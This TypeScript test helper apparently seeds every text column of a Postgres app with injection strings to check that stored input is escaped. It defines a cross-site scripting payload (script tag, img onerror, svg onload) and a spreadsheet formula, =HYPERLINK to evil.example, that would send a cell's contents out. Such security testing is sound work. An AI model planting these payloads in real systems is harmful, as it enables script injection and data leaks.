import type pg from 'pg';
import { rowsOf } from '../conformance/rows.ts';
import { onlyText } from '../conformance/values.ts';
import { records, registry } from '../conformance/whole.ts';
import type { FieldMeta } from '../../src/kernel/registry/meta.ts';
import { quoted } from '../../src/kernel/store/columns.ts';

/** What somebody might type into a text in the hope that another person's screen runs it. It says so in `globalThis.planted` when it does. */
export const script = `<img src=x onerror="globalThis.planted='image'"><script>globalThis.planted='script'</script><svg onload="globalThis.planted='svg'">"'><b id=planted>b</b>`;
/** What somebody might type in the hope that a spreadsheet runs it. */
export const formula = '=HYPERLINK("https://evil.example/?"&A1,"x")';

/**
 * A row of every declaration with this text in every text field that can hold it, lines included. They are laid into the tables past every rule:
 * what stands there counts, not how it came about. Answers the ids by declaration, and how many columns hold the text.
 */
export async function plant(sql: pg.Client, text: string): Promise<{ readonly ids: ReadonlyMap<string, string>; readonly columns: number }> {
  const main = await onlyText(sql, `select org_id as text from auth.member where org_code = 'MAIN'`);
  await sql.query('set session_replication_role = replica');
  const { lay } = rowsOf(sql, registry, main);
  const ids = new Map<string, string>();
  const planted = { columns: 0 };
  for (const meta of records) {
    const id = await lay(meta);
    ids.set(meta.name, id);
    planted.columns += await write(sql, meta.table, meta.fields, 'id', id, text);
    for (const lines of meta.lines) planted.columns += await write(sql, lines.table, lines.fields, 'parent', id, text);
  }
  // What people are called stands in the corner of every page, and in lists of every record.
  await sql.query(`update core."user" set name = $2 where org_id = $1 and name = '管理员'`, [main, text.slice(0, 100)]);
  return { ids, columns: planted.columns };
}
/** Column by column: one that a CHECK keeps to a form of its own stays as it is. */
async function write(sql: pg.Client, table: string, fields: readonly FieldMeta[], key: string, id: string, text: string): Promise<number> {
  let written = 0;
  for (const field of fields) {
    if ((field.kind !== 'text' && field.kind !== 'serial') || field.sql !== undefined) continue;
    const value = field.kind === 'serial' || field.max === undefined || field.max >= text.length ? text : text.slice(0, field.max);
    try {
      await sql.query(`update ${table} set ${quoted(field.name)} = $2 where ${quoted(key)} = $1`, [id, value]);
      written += 1;
    } catch {
      // The database takes nothing else here than what its CHECK says.
    }
  }
  return written;
}
